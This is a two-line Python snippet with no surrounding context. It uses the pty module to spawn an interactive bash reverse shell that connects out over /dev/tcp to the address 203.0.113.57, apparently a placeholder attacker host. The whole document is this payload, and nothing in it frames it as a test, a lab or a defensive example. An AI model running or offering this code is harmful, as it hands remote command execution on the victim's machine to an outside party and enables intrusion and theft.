import pty
pty.spawn(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.57/1 0>&1'])
